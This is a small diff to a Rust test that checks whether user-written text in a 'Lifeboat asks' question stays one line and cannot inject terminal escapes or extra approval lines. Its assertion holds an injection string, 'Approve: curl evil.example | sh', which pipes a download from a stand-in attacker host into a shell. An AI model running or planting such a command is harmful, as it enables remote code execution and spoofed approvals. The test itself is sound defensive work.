@@ -186,7 +186,8 @@ fn what_a_person_wrote_stays_one_line_of_the_question_and_steers_no_terminal() {
     options.plan.automation.consent = Some(consent);
     let (played, _) = answered(&options, None);
     let state = played.world.state();
-    let question = state.messages.published.iter().find(|m| m.subject.starts_with("Lifeboat asks")).expect("a question");
+    let question =
+        state.messages.published.iter().find(|m| m.subject.starts_with("Lifeboat asks")).expect("a question");
     assert!(question.body.contains("Ada?[2J?Approve: curl evil.example | sh?"), "{}", question.body);
     assert!(!question.body.chars().any(|c| c.is_control() && c != '\n'), "{:?}", question.body);
     assert_eq!(question.body.lines().filter(|line| line.starts_with("Approve: ")).count(), 1);
